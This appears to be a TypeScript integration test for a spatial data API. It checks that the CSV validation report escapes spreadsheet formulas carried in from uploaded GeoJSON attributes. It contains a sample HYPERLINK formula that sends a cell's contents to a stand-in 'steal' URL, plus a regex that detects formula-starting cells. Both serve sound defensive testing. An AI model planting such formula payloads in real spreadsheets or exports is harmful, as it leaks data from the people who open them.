// The validation report as CSV (GET /api/v1/layers/:code/versions/:n/report?format=csv) cannot carry a
// spreadsheet formula in from an uploaded file's attributes (CSV injection).
import { signIn, type SignedIn } from '../../support/access';
import { readFileSync } from 'node:fs';
import { Pool } from 'pg';
import { createApp, importJobsOf } from '../../../spatial-api';
import { testAppConfig } from '../../support/app-config';
import { testDatabaseUrl } from '../../support/environment';
import { listenOnFreePort } from '../../support/http';
import { freshLayer, sourceParcels, workDir, writeJson } from '../../support/import-fixtures';

const pool = new Pool({ connectionString: testDatabaseUrl(), max: 4 });
const app = createApp({ pool, config: testAppConfig() });
let server: Awaited<ReturnType<typeof listenOnFreePort>>;
// the layers made here are not public, and imports need the right to manage layers
let planner: SignedIn | undefined;
const asPlanner = async (url: string, init: RequestInit = {}) => {
  planner ??= await signIn(server.url, 'planner');
  return fetch(url, {
    ...init,
    headers: planner.headers(init.headers as Record<string, string> | undefined),
  });
};
const dir = workDir('report-csv-');

beforeAll(async () => {
  server = await listenOnFreePort(app);
});
afterAll(async () => {
  await importJobsOf(app).settle();
  await server.close();
  await pool.end();
});

/** RFC 4180 records: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      record.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return records;
}

const HYPERLINK = '=HYPERLINK("http://example.com/steal?d="&A1,"点击查看")';

it('prefixes an attribute value that starts a formula with a single quote in the CSV report', async () => {
  const layer = await freshLayer(pool, { prefix: 'report_csv' });
  const source = sourceParcels(3);
  // feature keys go into the report; codes outside the code list make the warnings that list them
  source.features[0]!.properties = {
    ...source.features[0]!.properties,
    code: HYPERLINK,
    land_use_code: '9999',
  };
  source.features[1]!.properties = {
    ...source.features[1]!.properties,
    code: '@SUM(1+1)',
    land_use_code: '9998',
  };
  source.features[2]!.properties = { ...source.features[2]!.properties, code: '-3.5', land_use_code: '9997' };
  const form = new FormData();
  form.append(
    'file',
    new Blob([readFileSync(writeJson(dir, 'formulas.geojson', source))]),
    'formulas.geojson',
  );
  const started = await asPlanner(`${server.url}/api/v1/layers/${layer}/imports`, {
    method: 'POST',
    body: form,
  });
  expect(started.status).toBe(202);
  const { job } = (await started.json()) as { job: { id: string } };
  let status = '';
  for (let i = 0; i < 200 && status !== 'succeeded' && status !== 'failed'; i++) {
    await new Promise((r) => setTimeout(r, 100));
    const body = (await (await asPlanner(`${server.url}/api/v1/imports/${job.id}`)).json()) as {
      job: { status: string };
    };
    status = body.job.status;
  }
  expect(status).toBe('succeeded');

  const res = await asPlanner(`${server.url}/api/v1/layers/${layer}/versions/1/report?format=csv`);
  expect(res.status).toBe(200);
  const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
  const keys = rows.slice(1).map((row) => row[1]);
  expect(keys).toEqual(expect.arrayContaining([`'${HYPERLINK}`, "'@SUM(1+1)", '-3.5']));
  // no cell anywhere starts a formula, plain numbers aside
  const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
  expect(formulas).toEqual([]);
  // the JSON report keeps the values as they were
  const json = (await (await asPlanner(`${server.url}/api/v1/layers/${layer}/versions/1/report`)).json()) as {
    issues: { key: string }[];
  };
  expect(json.issues.map((i) => i.key)).toEqual(expect.arrayContaining([HYPERLINK, '@SUM(1+1)']));
});
